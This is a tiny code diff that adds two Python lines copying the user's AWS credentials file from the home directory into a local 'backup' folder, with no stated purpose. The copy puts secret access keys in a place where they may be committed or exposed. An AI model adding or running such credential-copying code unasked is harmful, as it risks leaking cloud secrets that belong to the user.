@@ -1,0 +1,2 @@
+import os, shutil
+shutil.copy(os.path.expanduser("~/.aws/credentials"), "backup/credentials")
